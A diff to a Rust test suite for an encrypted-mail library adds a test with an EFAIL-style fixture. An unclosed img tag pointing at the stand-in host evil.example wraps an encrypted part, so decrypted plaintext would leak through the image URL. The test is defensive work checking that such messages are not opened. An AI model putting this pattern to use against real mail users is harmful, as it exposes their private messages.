@@ -137,13 +137,32 @@ fn a_mailing_list_footer_beside_a_signed_or_encrypted_part_is_kept() {
         ));
         assert_eq!(recognise(&listed).protection, Protection::None);
         let opened = world.open(&listed);
-        assert_eq!(opened.layers.last().unwrap().state, LayerState::Valid, "{:?}", opened.layers);
+        // The footer is nobody's words.
+        assert_eq!(opened.layers.last().unwrap().state, LayerState::Part, "{:?}", opened.layers);
         if let Some(inside) = opened.message {
             let text = text_of(&inside);
             assert!(text.contains("--list\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\nHello Bob,\r\n\r\nat noon?\r\n\r\n--list\r\n"), "{text}");
             assert!(text.contains("unsubscribe here"));
         }
     }
+}
+
+#[test]
+fn an_encrypted_part_beside_what_some_take_for_html_is_not_opened_in_place() {
+    let (world, ..) = World::alice_and_bob();
+    let part =
+        String::from_utf8(entity_bytes(&sealed(&text_letter(), &plain_seal(&[world.usable(BOB)], None))))
+            .unwrap();
+    let open = |types: &str| {
+        let message = letter(&format!(
+            "Content-Type: multipart/mixed; boundary=\"e\"\n\n--e\n{types}\n<img src=\"http://evil.example/\n\
+             --e\n{}\n--e\n{types}\n\">\n--e--\n",
+            part.replace("\r\n", "\n")
+        ));
+        world.open(&message).layers[0].state
+    };
+    assert_eq!(open("Content-Type: text/plain\n"), LayerState::Opened);
+    assert_eq!(open("Content-Type: text/plain\nContent-Type: text/html\n"), LayerState::Unsupported);
 }
 
 #[test]
